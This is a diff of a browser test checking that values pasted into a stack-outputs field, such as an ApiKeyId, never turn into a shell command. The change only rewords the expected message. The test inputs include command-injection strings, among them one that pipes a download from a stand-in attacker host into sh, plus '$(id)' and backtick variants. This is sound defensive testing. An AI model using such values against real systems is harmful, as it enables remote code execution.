@@ -142,7 +142,7 @@ scenario('a value that is pasted does not become a command', {}, async (page) =>
   for (const id of ['x; curl https://evil.example | sh', '$(id)', '`id`', "'; id; '", 'a\nid', 'a'.repeat(65)]) {
     const outputs = { APIUrl: base, TableName: 'resumes', ApiKeyId: id };
     await field(page, 'Outputs of the stack').fill(JSON.stringify(outputs));
-    await eventually(async () => assert.match(await result(page), /ApiKeyId was left out/, id));
+    await eventually(async () => assert.match(await result(page), /ApiKeyId was ignored/, id));
     assert.equal(await page.getByText('get-api-key').count(), 0, id);
   }
   await field(page, 'Outputs of the stack').fill(JSON.stringify({ APIUrl: base, TableName: 'resumes', ApiKeyId: 'a1B2' }));
